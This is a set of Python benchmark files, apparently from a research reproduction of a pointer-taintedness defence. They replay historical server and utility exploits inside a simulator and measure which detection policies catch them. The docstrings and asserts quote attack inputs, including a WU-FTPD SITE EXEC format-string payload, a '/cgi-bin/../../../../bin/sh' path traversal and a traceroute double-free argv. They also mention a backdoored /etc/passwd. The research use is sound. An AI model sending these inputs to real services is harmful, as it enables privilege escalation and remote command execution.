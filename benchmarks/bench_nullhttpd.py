"""NULLHTTPD -- section 5.1.2: heap overflow rewrites CGI-BIN to /bin.

The non-control-data attack the paper constructed for NULL HTTPD: a POST
with negative Content-Length under-allocates the body buffer, the overflow
plants fd/bk links, and free()'s unlink writes "bin\\0" into the CGI-BIN
configuration -- caught at the tainted store inside free().
"""

from bench_util import save_report

from repro.apps.nullhttpd import cgi_bin_address, nullhttpd_scenario
from repro.defenses.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.evalx.reporting import render_table


def test_bench_nullhttpd_detection(benchmark):
    scenario = nullhttpd_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert result.detected
    assert result.alert.kind == "store"
    assert result.alert.pointer_value == cgi_bin_address() + 1


def test_bench_nullhttpd_baselines_and_report(benchmark):
    scenario = nullhttpd_scenario()

    def run_all():
        return {
            "pointer-taintedness": scenario.run_attack(PointerTaintPolicy()),
            "control-data-only": scenario.run_attack(ControlDataPolicy()),
            "unprotected": scenario.run_attack(NullPolicy()),
        }

    results = benchmark(run_all)
    assert results["pointer-taintedness"].detected
    assert not results["control-data-only"].detected
    unprotected = results["unprotected"]
    cgi = unprotected.sim.memory.read_cstring(cgi_bin_address())
    assert cgi == b"/bin"
    assert unprotected.executed_programs == ["/bin/sh"]

    rows = [
        (name, result.describe()[:72],
         ",".join(result.executed_programs) or "-")
        for name, result in results.items()
    ]
    save_report(
        "nullhttpd_heap",
        render_table(
            ["policy", "outcome", "programs exec'd"],
            rows,
            title="NULL HTTPD heap attack (CGI-BIN overwrite) per policy",
        ),
    )
