"""FIG2/SYN -- Figure 2 + section 5.1.1: synthetic attack detection.

Replays the stack-smash, heap-corruption, and format-string micro-attacks
and checks the paper's exact observations: the alert instruction class and
the tainted pointer values (0x61616161 / 0x64636261).
"""

import pytest
from bench_util import save_report

from repro.apps.synthetic import exp1_scenario, exp2_scenario, exp3_scenario
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.experiments import report_fig2


@pytest.mark.parametrize(
    "make_scenario, kind, pointer, mnemonic",
    [
        (exp1_scenario, "jump", 0x61616161, "jr"),
        (exp2_scenario, "store", 0x61616161, "sw"),
        (exp3_scenario, "store", 0x64636261, "sw"),
    ],
    ids=["exp1-stack", "exp2-heap", "exp3-format"],
)
def test_bench_synthetic_detection(benchmark, make_scenario, kind, pointer,
                                   mnemonic):
    scenario = make_scenario()
    policy = PointerTaintPolicy()

    result = benchmark(scenario.run_attack, policy)

    assert result.detected
    assert result.alert.kind == kind
    assert result.alert.pointer_value == pointer
    assert result.alert.disassembly.startswith(mnemonic)
    # The benign input runs clean on the same build.
    assert scenario.run_benign(policy).outcome == "exit"


def test_bench_fig2_report(benchmark):
    text = benchmark(report_fig2)
    assert text.count("ALERT") == 3
    save_report("fig2_synthetic_detection", text)
