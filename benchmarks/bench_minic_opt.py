"""MiniC optimizer benefit: -O1 must cut dynamic instructions, not verdicts.

The IR pipeline (``repro.cc.ir`` -> ``passes`` -> ``regalloc`` ->
``emit``) exists to make the Table-3 false-positive study cheaper to run
at SPEC scale.  This bench replays every registered workload at -O0 and
-O1 under the pointer-taintedness policy and records, per workload:

* the dynamic instruction counts on both backends,
* the reduction percentage,
* verdict equality (outcome, alerts, stdout) -- the optimizer may never
  trade detection fidelity for speed.

Emits ``BENCH_minic_opt.json`` at the repo root.  Standalone::

    PYTHONPATH=src:benchmarks python benchmarks/bench_minic_opt.py [--check]

``--check`` is one-sided: it exits non-zero when any workload's
reduction falls below ``MIN_REDUCTION_PCT`` or any observable diverges;
reductions beyond the floor never fail.  ``--smoke`` is the CI fast
path: a three-workload subset with the same guards, without rewriting
the JSON record.
"""

import sys

from bench_util import save_json, save_report

from repro.apps.spec import SPEC_WORKLOADS
from repro.attacks.replay import run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.reporting import render_kv

#: Every workload must retire at least this many percent fewer dynamic
#: instructions at -O1.  The measured reductions sit at 32-59%, so the
#: floor catches a pass being disabled or regressed without flaking on
#: workload drift.
MIN_REDUCTION_PCT = 20.0

#: The --smoke subset: cheapest three workloads spanning the kernel
#: shapes (bit-twiddling, pointer-walking, hash-table churn).
SMOKE_WORKLOADS = ("GZIP", "MCF", "VORTEX")


def _run(workload, opt_level):
    return run_minic(
        workload.source,
        PointerTaintPolicy(),
        stdin=workload.make_input(),
        opt_level=opt_level,
    )


def measure_workload(workload):
    r0 = _run(workload, 0)
    r1 = _run(workload, 1)
    i0 = r0.sim.stats.instructions
    i1 = r1.sim.stats.instructions
    return {
        "workload": workload.name,
        "instructions_O0": i0,
        "instructions_O1": i1,
        "reduction_pct": round(100.0 * (i0 - i1) / i0, 1) if i0 else 0.0,
        "verdict_match": (
            r0.outcome == r1.outcome == "exit"
            and r0.exit_status == r1.exit_status
            and r0.stdout == r1.stdout
            and r0.sim.stats.alerts == r1.sim.stats.alerts == 0
        ),
    }


def collect_minic_opt_record(names=None):
    workloads = [
        w for w in SPEC_WORKLOADS if names is None or w.name in names
    ]
    rows = [measure_workload(w) for w in workloads]
    record = {
        "policy": "pointer-taintedness (Table 3 configuration)",
        "rows": rows,
        "min_reduction_pct": MIN_REDUCTION_PCT,
        "note": (
            "dynamic instruction counts per Table-3 workload at -O0 "
            "(legacy single-pass backend) vs -O1 (IR pipeline); verdicts "
            "must be identical -- the optimizer is verdict-preserving by "
            "construction"
        ),
    }
    if names is None:
        save_json("minic_opt", record)
    return record


def _violations(record):
    problems = []
    for row in record["rows"]:
        if not row["verdict_match"]:
            problems.append(
                f"{row['workload']}: -O0/-O1 observables diverged"
            )
        if row["reduction_pct"] < MIN_REDUCTION_PCT:
            problems.append(
                f"{row['workload']}: reduction {row['reduction_pct']:.1f}% "
                f"< {MIN_REDUCTION_PCT}%"
            )
    return problems


def test_bench_minic_opt_record(benchmark):
    gzip = next(w for w in SPEC_WORKLOADS if w.name == "GZIP")
    benchmark(measure_workload, gzip)
    record = collect_minic_opt_record()
    assert len(record["rows"]) == len(SPEC_WORKLOADS)
    assert not _violations(record), _violations(record)
    save_report(
        "minic_opt",
        render_kv(
            [
                (row["workload"],
                 f"{row['instructions_O0']:>10} -> "
                 f"{row['instructions_O1']:>10}  "
                 f"(-{row['reduction_pct']:.1f}%)")
                for row in record["rows"]
            ] + [("note", "JSON record at BENCH_minic_opt.json")],
            title="MiniC -O1 dynamic instruction reduction",
        ),
    )


def main(argv):
    check = "--check" in argv
    smoke = "--smoke" in argv
    names = SMOKE_WORKLOADS if smoke else None
    record = collect_minic_opt_record(names=names)
    print("MiniC -O1 dynamic instruction reduction:")
    for row in record["rows"]:
        status = "ok" if row["verdict_match"] else "VERDICT MISMATCH"
        print(
            f"  {row['workload']:<8} {row['instructions_O0']:>10} -> "
            f"{row['instructions_O1']:>10}  (-{row['reduction_pct']:5.1f}%)"
            f"  {status}"
        )
    if not smoke:
        print("written: BENCH_minic_opt.json")
    if check or smoke:
        problems = _violations(record)
        if problems:
            for problem in problems:
                print(f"BENCH GUARD FAIL: {problem}")
            return 1
        print("BENCH GUARD OK")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
