"""EXTENSION -- globbing heap corruption (Figure 1's fifth class).

The paper's taxonomy counts LibC glob() misuse among the memory-corruption
advisory classes but evaluates no globbing victim; this bench closes that
gap with a CA-2001-33 analogue and verifies the expected detection shape:
the unlink store inside free(), pointer 0x61616161, missed by the
control-data baseline.
"""

from bench_util import save_report

from repro.apps.ftpglob import ftpglob_scenario
from repro.defenses.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.evalx.reporting import render_kv


def test_bench_ftpglob_detection(benchmark):
    scenario = ftpglob_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert result.detected
    assert result.alert.kind == "store"
    assert result.alert.pointer_value == 0x61616161


def test_bench_ftpglob_baselines_and_report(benchmark):
    scenario = ftpglob_scenario()

    def run_all():
        return (
            scenario.run_attack(PointerTaintPolicy()),
            scenario.run_attack(ControlDataPolicy()),
            scenario.run_attack(NullPolicy()),
            scenario.run_benign(PointerTaintPolicy()),
        )

    detected, baseline, unprotected, benign = benchmark.pedantic(
        run_all, rounds=1, iterations=1
    )
    assert detected.detected
    assert not baseline.detected
    assert unprotected.sim.stats.tainted_dereferences > 0
    assert benign.outcome == "exit"
    save_report(
        "ftpglob_heap",
        render_kv(
            [
                ("attack", "LIST " + "a" * 40 + "/*"),
                ("pointer-taintedness", detected.describe()),
                ("control-data-only", baseline.describe()),
                ("unprotected wild derefs",
                 unprotected.sim.stats.tainted_dereferences),
                ("benign LIST sessions", benign.describe()),
            ],
            title="globbing heap corruption (CA-2001-33 analogue, extension)",
        ),
    )
