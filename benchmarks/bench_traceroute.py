"""TRACEROUTE -- section 5.1.2: the -g x -g y double-free attack.

``traceroute -g 123 -g 5.6.7.8``: savestr() reuses a freed block, the
second free() reads the tainted argv string "123" (0x00333231) as chunk
metadata, and the detector raises at a store-word inside free() whose
pointer derives from that tainted word.
"""

from bench_util import save_report

from repro.apps.traceroute import traceroute_scenario
from repro.defenses.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.evalx.reporting import render_kv


def test_bench_traceroute_detection(benchmark):
    scenario = traceroute_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert result.detected
    assert result.alert.kind == "store"
    assert "sw" in result.alert.disassembly
    chunk_base = result.alert.pointer_value - (0x00333230 - 4)
    assert 0x10000000 <= chunk_base < 0x10400000


def test_bench_traceroute_baselines_and_report(benchmark):
    scenario = traceroute_scenario()

    def run_all():
        return (
            scenario.run_attack(PointerTaintPolicy()),
            scenario.run_attack(ControlDataPolicy()),
            scenario.run_attack(NullPolicy()),
            scenario.run_benign(PointerTaintPolicy()),
        )

    detected, control_data, unprotected, benign = benchmark(run_all)
    assert detected.detected
    assert not control_data.detected
    assert unprotected.sim.stats.tainted_dereferences > 0
    assert benign.outcome == "exit"

    save_report(
        "traceroute_double_free",
        render_kv(
            [
                ("attack argv", "traceroute -g 123 -g 5.6.7.8"),
                ("pointer-taintedness", detected.describe()),
                ("control-data-only", control_data.describe()),
                ("unprotected wild derefs",
                 unprotected.sim.stats.tainted_dereferences),
                ("benign -g 10.0.0.1", benign.describe()),
            ],
            title="traceroute double free (BID-1739 analogue)",
        ),
    )
