"""COVERAGE -- the section 5.1 claim as one matrix.

Every attack (Figure 2 synthetic + Table 4 + the four real applications)
against every policy.  The paper's story, asserted:

* pointer-taintedness detects all seven real attacks (control data AND
  non-control data);
* the control-flow-integrity baseline detects only the control-data one;
* every attack compromises an unprotected machine;
* the Table 4 scenarios evade both detectors.
"""

from bench_util import save_report

from repro.evalx.experiments import (
    report_coverage_matrix,
    run_coverage_matrix,
)

_REAL_ATTACKS = [
    "exp1-stack-smash",
    "exp2-heap-corruption",
    "exp3-format-string",
    "wuftpd-site-exec",
    "nullhttpd-heap",
    "ghttpd-url-pointer",
    "traceroute-double-free",
]

_FALSE_NEGATIVES = [
    "table4a-integer-overflow",
    "table4b-auth-flag",
    "table4c-format-leak",
]


def test_bench_coverage_matrix(benchmark):
    matrix = {
        row["scenario"]: row
        for row in benchmark.pedantic(run_coverage_matrix, rounds=1,
                                      iterations=1)
    }
    detected_by_paper = sum(
        1 for name in _REAL_ATTACKS if matrix[name]["pointer-taintedness"]
    )
    detected_by_baseline = sum(
        1 for name in _REAL_ATTACKS if matrix[name]["control-data-only"]
    )
    assert detected_by_paper == 7
    assert detected_by_baseline == 1
    assert all(matrix[name]["compromise"] for name in _REAL_ATTACKS)
    for name in _FALSE_NEGATIVES:
        assert not matrix[name]["pointer-taintedness"]
        assert not matrix[name]["control-data-only"]
    save_report("coverage_matrix", report_coverage_matrix())
