"""TAB4 -- Table 4: the false-negative scenarios (section 5.3).

All three scenarios must evade detection while doing real damage:
(A) integer overflow past a flawed bound check corrupts the frame,
(B) a buffer overflow flips the authentication flag,
(C) ``%x`` format directives leak the stack secret.
The companion check: the ``%n`` variant of (C) IS caught.
"""

import pytest
from bench_util import save_report

from repro.apps.synthetic import (
    LEAK_SOURCE,
    leak_scenario,
    vuln_a_scenario,
    vuln_b_scenario,
)
from repro.attacks.replay import run_minic
from repro.defenses.policy import PointerTaintPolicy
from repro.evalx.experiments import report_table4, run_table4


@pytest.mark.parametrize(
    "make_scenario, evidence",
    [
        (vuln_a_scenario, "corrupted"),
        (vuln_b_scenario, "access granted"),
        (leak_scenario, "1337c0de"),
    ],
    ids=["A-integer-overflow", "B-auth-flag", "C-format-leak"],
)
def test_bench_false_negative(benchmark, make_scenario, evidence):
    scenario = make_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert not result.detected             # escapes the paper's defense
    assert evidence in result.stdout       # ...but the damage is real


def test_bench_percent_n_variant_is_caught(benchmark):
    result = benchmark(
        run_minic, LEAK_SOURCE, PointerTaintPolicy(), stdin=b"abcd%n"
    )
    assert result.detected
    assert result.alert.pointer_value == 0x64636261


def test_bench_table4_report(benchmark):
    rows = benchmark.pedantic(run_table4, rounds=1, iterations=1)
    assert len(rows) == 3 and not any(r.detected for r in rows)
    save_report("table4_false_negatives", report_table4())
