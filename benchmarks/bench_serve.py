"""Gateway throughput: sustained jobs/s and tail latency under load.

Engineering data for :mod:`repro.serve`: four concurrent clients hammer
one gateway over loopback with small run jobs, measuring sustained
jobs/s and the p50/p99 request latency, plus the campaign digest parity
that makes the service trustworthy (served digest == in-process digest).

Emits ``BENCH_serve.json`` at the repo root (with ``cpu_count`` and the
worker count, so a number from a one-core CI box is never mistaken for a
scaling claim) and a rendered summary under ``benchmarks/results/``.
Also runnable standalone::

    PYTHONPATH=src:benchmarks python benchmarks/bench_serve.py
    PYTHONPATH=src:benchmarks python benchmarks/bench_serve.py --check
    PYTHONPATH=src:benchmarks python benchmarks/bench_serve.py --smoke

``--check`` is the one-sided service-overhead guard: with the in-process
rate for the same workload measured on the same host in the same run,
the served rate (4 concurrent clients, 1 worker) must stay above
``0.25x`` of it -- the gateway may cost IPC + JSON + queueing, but never
4x the work itself.  Host speed cancels out, and the baseline JSON is
never rewritten by the guard.  ``--smoke`` is the CI fast path used by
the serve-smoke job: concurrent clients, schema validity, digest
equality, health sanity.
"""

import argparse
import json
import statistics
import sys
import threading
import os
from time import perf_counter

from bench_util import save_json, save_report

from repro.api import Session, validate_result_json
from repro.evalx.reporting import render_kv
from repro.libc.build import build_program
from repro.serve import BackgroundServer, ServeClient

_CLIENTS = 4
_JOBS_PER_CLIENT = 12
_DIGEST_SEED = 11
_DIGEST_TRIALS = 10

_JOB_SOURCE = r"""
int main(void) {
    char buf[32];
    int i;
    int acc;
    read(0, buf, 16);
    acc = 0;
    i = 0;
    while (i < 200) {
        acc = acc + buf[i % 16] + i;
        i = i + 1;
    }
    printf("acc=%d\n", acc);
    return 0;
}
"""

_RUN_JOB = {"kind": "run", "source": _JOB_SOURCE, "stdin": "benchload!!!!!!!"}


def _client_loop(host, port, jobs, latencies, errors):
    with ServeClient(host=host, port=port) as client:
        for _ in range(jobs):
            started = perf_counter()
            result = client.request(dict(_RUN_JOB))
            latencies.append((perf_counter() - started) * 1000.0)
            if result.get("kind") != "run":
                errors.append(result)


def measure_served(clients=_CLIENTS, jobs_per_client=_JOBS_PER_CLIENT):
    """Sustained jobs/s + latency distribution at ``clients`` concurrency."""
    latencies: list = []
    errors: list = []
    with BackgroundServer(workers=1) as bg:
        with ServeClient(host=bg.server.host, port=bg.server.port) as warm:
            warm.request(dict(_RUN_JOB))  # populate the worker's exe cache
            served_digest = warm.request(
                {"kind": "campaign", "builtin": "exp3",
                 "seed": _DIGEST_SEED, "trials": _DIGEST_TRIALS}
            )["stats"]["digest"]
        threads = [
            threading.Thread(
                target=_client_loop,
                args=(bg.server.host, bg.server.port, jobs_per_client,
                      latencies, errors),
            )
            for _ in range(clients)
        ]
        started = perf_counter()
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        elapsed = perf_counter() - started
        health = None
        with ServeClient(host=bg.server.host, port=bg.server.port) as probe:
            health = probe.health()
    assert bg.exit_code == 0, "drain must exit 0"
    assert not errors, f"non-run responses under load: {errors[:2]}"
    total = clients * jobs_per_client
    latencies.sort()
    return {
        "clients": clients,
        "jobs": total,
        "elapsed_s": round(elapsed, 3),
        "jobs_per_sec": round(total / elapsed, 2),
        "latency_ms": {
            "p50": round(statistics.median(latencies), 2),
            "p99": round(latencies[max(0, int(len(latencies) * 0.99) - 1)], 2),
            "max": round(latencies[-1], 2),
        },
        "served_digest": served_digest,
        "health": {
            "completed": health["completed"],
            "worker_crashes": health["workers"]["crashes"],
        },
    }


def measure_in_process(jobs=_CLIENTS * _JOBS_PER_CLIENT):
    """The same run workload without the service: the overhead baseline."""
    session = Session()
    exe = build_program(_JOB_SOURCE)
    stdin = _RUN_JOB["stdin"].encode()
    session.run_executable(exe, stdin=stdin)  # warm parity with the server
    started = perf_counter()
    for _ in range(jobs):
        session.run_executable(exe, stdin=stdin)
    elapsed = perf_counter() - started
    return {"jobs": jobs, "jobs_per_sec": round(jobs / elapsed, 2)}


def collect_serve_record():
    served = measure_served()
    local = measure_in_process()
    digest = Session().run_campaign(
        builtin="exp3", seed=_DIGEST_SEED, trials=_DIGEST_TRIALS
    ).digest()
    assert served["served_digest"] == digest, (
        "served campaign digest diverged from the in-process Session"
    )
    record = {
        "cpu_count": os.cpu_count() or 1,
        "workers": 1,
        "served": served,
        "in_process": local,
        "relative_throughput": round(
            served["jobs_per_sec"] / local["jobs_per_sec"], 3
        ) if local["jobs_per_sec"] else 0.0,
        "digest": digest,
    }
    save_json("serve", record)
    return record


def test_serve_record_artifact():
    record = collect_serve_record()
    served = record["served"]
    assert served["clients"] >= 4
    assert served["jobs_per_sec"] > 0
    assert served["latency_ms"]["p99"] >= served["latency_ms"]["p50"]
    save_report(
        "serve",
        render_kv(
            [
                ("host cores", record["cpu_count"]),
                ("gateway workers", record["workers"]),
                ("concurrent clients", served["clients"]),
                ("jobs served", served["jobs"]),
                ("sustained jobs/s", served["jobs_per_sec"]),
                ("latency p50 (ms)", served["latency_ms"]["p50"]),
                ("latency p99 (ms)", served["latency_ms"]["p99"]),
                ("in-process jobs/s", record["in_process"]["jobs_per_sec"]),
                ("served / in-process", record["relative_throughput"]),
                ("campaign digest parity", record["digest"][:16] + "..."),
                ("note", "JSON record at BENCH_serve.json"),
            ],
            title="serve gateway throughput",
        ),
    )


def check_overhead(out=print):
    """Service-overhead guard (one-sided, never rewrites the baseline)."""
    served = measure_served()
    local = measure_in_process()
    achieved = (
        served["jobs_per_sec"] / local["jobs_per_sec"]
        if local["jobs_per_sec"] else 0.0
    )
    required = 0.25
    out(f"in-process rate: {local['jobs_per_sec']:>10,.1f} jobs/s")
    out(f"served rate:     {served['jobs_per_sec']:>10,.1f} jobs/s "
        f"({served['clients']} clients)")
    out(f"p99 latency:     {served['latency_ms']['p99']:>10,.1f} ms")
    out(f"achieved ratio:  {achieved:>10.2f}x  (required >= {required:.2f}x)")
    if achieved < required:
        out(
            f"BENCH GUARD FAIL: served throughput {achieved:.2f}x of "
            f"in-process is below the {required:.2f}x bar"
        )
        return 1
    out("BENCH GUARD OK")
    return 0


def smoke(out=print):
    """CI fast path: concurrent clients, schema + digest + health checks."""
    served = measure_served(clients=2, jobs_per_client=3)
    local_digest = Session().run_campaign(
        builtin="exp3", seed=_DIGEST_SEED, trials=_DIGEST_TRIALS
    ).digest()
    if served["served_digest"] != local_digest:
        out("SMOKE FAIL: served digest diverged from in-process Session")
        return 1
    if served["health"]["completed"] < served["jobs"]:
        out("SMOKE FAIL: health probe missed completed jobs")
        return 1
    out(
        f"SMOKE OK: {served['jobs']} jobs at {served['jobs_per_sec']} "
        f"jobs/s, digest {local_digest[:16]}... identical over the wire"
    )
    return 0


def main(argv=None):
    parser = argparse.ArgumentParser(
        description="serve gateway benchmark / overhead guard"
    )
    parser.add_argument(
        "--check", action="store_true",
        help="guard mode: served throughput must stay above 0.25x of the "
             "in-process rate for the same workload",
    )
    parser.add_argument(
        "--smoke", action="store_true",
        help="fast CI path: concurrent clients, digest + health sanity",
    )
    args = parser.parse_args(argv)
    if args.check:
        return check_overhead()
    if args.smoke:
        return smoke()
    record = collect_serve_record()
    served = record["served"]
    print(f"serve gateway ({record['cpu_count']} core(s), "
          f"{served['clients']} clients, {record['workers']} worker):")
    print(f"  sustained: {served['jobs_per_sec']:>8,.1f} jobs/s")
    print(f"  latency:   p50 {served['latency_ms']['p50']:,.1f} ms, "
          f"p99 {served['latency_ms']['p99']:,.1f} ms")
    print(f"  vs in-process: {record['relative_throughput']:.2f}x")
    print("written: BENCH_serve.json")
    return 0


if __name__ == "__main__":
    sys.exit(main())
