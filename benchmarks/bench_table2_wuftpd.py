"""TAB2 -- Table 2: the WU-FTPD SITE EXEC attack/detection transcript.

Regenerates the paper's session table: banner, USER/PASS, the exact
``site exec \\x20\\xbc\\x02\\x10%x%x%x%x%x%x%n`` command, and the alert
whose dereferenced register equals the planted 0x1002bc20.  Also checks
the unprotected counterfactual: uid overwritten, /etc/passwd backdoored.
"""

from bench_util import save_report

from repro.apps.wuftpd import (
    BACKDOOR_PASSWD_ENTRY,
    site_exec_payload,
    uid_address,
    wuftpd_scenario,
)
from repro.defenses.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.evalx.experiments import report_table2


def test_bench_wuftpd_detection(benchmark):
    scenario = wuftpd_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert result.detected
    assert result.alert.kind == "store"
    assert result.alert.pointer_value == uid_address() == 0x1002BC20
    assert site_exec_payload().startswith(b"SITE EXEC \x20\xbc\x02\x10")


def test_bench_wuftpd_baselines(benchmark):
    scenario = wuftpd_scenario()

    def run_baselines():
        return (
            scenario.run_attack(ControlDataPolicy()),
            scenario.run_attack(NullPolicy()),
        )

    control_data, unprotected = benchmark(run_baselines)
    assert not control_data.detected            # non-control data: missed
    passwd = unprotected.kernel.fs.read_file("/etc/passwd")
    assert BACKDOOR_PASSWD_ENTRY.encode() in passwd


def test_bench_table2_report(benchmark):
    text = benchmark(report_table2)
    assert "site exec \\x20\\xbc\\x02\\x10%x%x%x%x%x%x%n" in text
    assert "0x1002bc20" in text
    save_report("table2_wuftpd", text)
