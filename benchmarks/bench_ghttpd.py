"""GHTTPD -- section 5.1.2: stack overflow redirects the URL pointer.

The paper's non-control-data GHTTPD attack: the overflow stops after
replacing a URL pointer (no return address touched), redirecting it past
the "/.." policy check to ``/cgi-bin/../../../../bin/sh``.  Detection fires
at the first load-byte through the tainted pointer.
"""

from bench_util import save_report

from repro.apps.ghttpd import ghttpd_scenario, request_buffer_address
from repro.defenses.policy import ControlDataPolicy, NullPolicy, PointerTaintPolicy
from repro.evalx.reporting import render_table


def test_bench_ghttpd_detection(benchmark):
    scenario = ghttpd_scenario()
    result = benchmark(scenario.run_attack, PointerTaintPolicy())
    assert result.detected
    assert result.alert.kind == "load"
    assert "lbu" in result.alert.disassembly       # the paper's LB
    # The redirected pointer is a stack address (paper's was 0x7fff3e94).
    assert 0x7FF00000 < result.alert.pointer_value < 0x7FFF8000


def test_bench_ghttpd_baselines_and_report(benchmark):
    scenario = ghttpd_scenario()

    def run_all():
        return {
            "pointer-taintedness": scenario.run_attack(PointerTaintPolicy()),
            "control-data-only": scenario.run_attack(ControlDataPolicy()),
            "unprotected": scenario.run_attack(NullPolicy()),
        }

    results = benchmark(run_all)
    assert results["pointer-taintedness"].detected
    assert not results["control-data-only"].detected
    for name in ("control-data-only", "unprotected"):
        assert any("/bin/sh" in p for p in results[name].executed_programs)

    rows = [
        (name, "DETECTED" if result.detected else "missed",
         ",".join(result.executed_programs) or "-")
        for name, result in results.items()
    ]
    save_report(
        "ghttpd_url_pointer",
        render_table(
            ["policy", "verdict", "programs exec'd"],
            rows,
            title=(
                "GHTTPD URL-pointer attack "
                f"(request buffer at {request_buffer_address():#x})"
            ),
        ),
    )
