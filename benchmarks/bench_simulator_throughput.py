"""Simulator micro-benchmarks: instruction throughput of the substrates.

Not a paper artifact -- engineering data for the reproduction itself:
interpreted instructions/second for the functional engine, the cache-backed
engine, and the pipeline engine, plus toolchain (compile+assemble) cost.
"""

import pytest
from bench_util import save_report

from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.cpu.pipeline import Pipeline
from repro.cpu.simulator import Simulator
from repro.evalx.reporting import render_kv
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

_HOT_LOOP = (
    ".text\n_start:\n"
    "li $t0, 20000\nli $t1, 0\n"
    "loop: addu $t1, $t1, $t0\nxor $t2, $t1, $t0\nsrl $t3, $t2, 3\n"
    "andi $t4, $t3, 0xFF\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
    "li $v0, 1\nli $a0, 0\nsyscall\n"
)

_MINIC_PROGRAM = """
int main(void) {
    int i; int s;
    s = 0;
    for (i = 0; i < 2000; i++) { s += i * 3 % 7; }
    printf("%d", s);
    return 0;
}
"""


def _run_functional(use_caches=False):
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel,
                    use_caches=use_caches)
    kernel.attach(sim)
    sim.run()
    return sim


def _run_pipelined():
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
    kernel.attach(sim)
    Pipeline(sim).run()
    return sim


def test_bench_functional_engine(benchmark):
    sim = benchmark(_run_functional)
    assert sim.stats.instructions > 100_000


def test_bench_cached_engine(benchmark):
    sim = benchmark(_run_functional, True)
    assert sim.stats.instructions > 100_000


def test_bench_pipeline_engine(benchmark):
    sim = benchmark(_run_pipelined)
    assert sim.stats.instructions > 100_000


def test_bench_toolchain(benchmark):
    from repro.libc.build import _build_cached

    def fresh_build():
        _build_cached.cache_clear()
        return build_program(_MINIC_PROGRAM)

    exe = benchmark(fresh_build)
    assert len(exe.text_words) > 500


def test_bench_minic_program(benchmark):
    result = benchmark(run_minic, _MINIC_PROGRAM)
    assert result.outcome == "exit"
    save_report(
        "simulator_throughput",
        render_kv(
            [
                ("instructions (hot loop)",
                 f"{_run_functional().stats.instructions:,}"),
                ("note", "timings in the pytest-benchmark table"),
            ],
            title="simulator throughput artifacts",
        ),
    )
