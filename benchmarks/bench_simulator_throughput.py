"""Simulator micro-benchmarks: instruction throughput of the substrates.

Not a paper artifact -- engineering data for the reproduction itself:
interpreted instructions/second for the functional engine, the cache-backed
engine, and the pipeline engine, plus toolchain (compile+assemble) cost.

Besides the pytest-benchmark table, the run emits a machine-readable
``BENCH_simulator_throughput.json`` at the repo root so the throughput
trajectory is tracked across PRs.  Also runnable standalone::

    PYTHONPATH=src python benchmarks/bench_simulator_throughput.py
"""

import time

import pytest
from bench_util import save_json, save_report

from repro.attacks.replay import run_minic
from repro.core.policy import PointerTaintPolicy
from repro.cpu.pipeline import Pipeline
from repro.cpu.simulator import Simulator
from repro.evalx.reporting import render_kv
from repro.isa.assembler import assemble
from repro.kernel.syscalls import Kernel
from repro.libc.build import build_program

_HOT_LOOP = (
    ".text\n_start:\n"
    "li $t0, 20000\nli $t1, 0\n"
    "loop: addu $t1, $t1, $t0\nxor $t2, $t1, $t0\nsrl $t3, $t2, 3\n"
    "andi $t4, $t3, 0xFF\naddiu $t0, $t0, -1\nbnez $t0, loop\n"
    "li $v0, 1\nli $a0, 0\nsyscall\n"
)

_MINIC_PROGRAM = """
int main(void) {
    int i; int s;
    s = 0;
    for (i = 0; i < 2000; i++) { s += i * 3 % 7; }
    printf("%d", s);
    return 0;
}
"""


def _run_functional(use_caches=False):
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel,
                    use_caches=use_caches)
    kernel.attach(sim)
    sim.run()
    return sim


def _run_pipelined():
    exe = assemble(_HOT_LOOP)
    kernel = Kernel()
    sim = Simulator(exe, PointerTaintPolicy(), syscall_handler=kernel)
    kernel.attach(sim)
    Pipeline(sim).run()
    return sim


#: Functional-engine instructions/sec of the pre-decode-refactor engine
#: (per-step mnemonic if/elif dispatch) on this hot loop; kept as the fixed
#: reference point for the speedup figure in the JSON record.
PRE_REFACTOR_BASELINE_IPS = 430_000


def _throughput(run, repeats=3, **kwargs):
    """Best-of-N instructions/sec for one engine configuration."""
    best = 0.0
    for _ in range(repeats):
        start = time.perf_counter()
        sim = run(**kwargs)
        elapsed = time.perf_counter() - start
        best = max(best, sim.stats.instructions / elapsed)
    return best


def collect_throughput_record():
    """Measure all three engines and write the JSON record at repo root."""
    functional = _throughput(_run_functional)
    cached = _throughput(_run_functional, use_caches=True)
    pipelined = _throughput(_run_pipelined, repeats=1)
    record = {
        "workload": "hot-loop (120,005 dynamic instructions)",
        "functional_ips": round(functional),
        "cached_ips": round(cached),
        "pipeline_ips": round(pipelined),
        "pre_refactor_baseline_ips": PRE_REFACTOR_BASELINE_IPS,
        "speedup_vs_pre_refactor": round(
            functional / PRE_REFACTOR_BASELINE_IPS, 2
        ),
    }
    save_json("simulator_throughput", record)
    return record


def test_bench_functional_engine(benchmark):
    sim = benchmark(_run_functional)
    assert sim.stats.instructions > 100_000


def test_bench_cached_engine(benchmark):
    sim = benchmark(_run_functional, True)
    assert sim.stats.instructions > 100_000


def test_bench_pipeline_engine(benchmark):
    sim = benchmark(_run_pipelined)
    assert sim.stats.instructions > 100_000


def test_bench_toolchain(benchmark):
    from repro.libc.build import _build_cached

    def fresh_build():
        _build_cached.cache_clear()
        return build_program(_MINIC_PROGRAM)

    exe = benchmark(fresh_build)
    assert len(exe.text_words) > 500
